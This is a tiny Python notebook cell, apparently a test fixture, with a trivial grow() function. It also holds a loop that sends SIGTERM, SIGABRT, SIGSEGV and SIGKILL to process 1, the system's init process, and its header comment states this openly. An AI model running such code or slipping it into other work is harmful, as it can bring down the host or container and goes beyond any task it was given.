# A notebook sends every deadly signal to process 1.
# may: grow chain
# says: .
# %% faults-grow
import os
import signal


def grow(x):
    return 2 * x


for number in (signal.SIGTERM, signal.SIGABRT, signal.SIGSEGV, signal.SIGKILL):
    try:
        os.kill(1, number)
    except OSError as error:
        print(error)
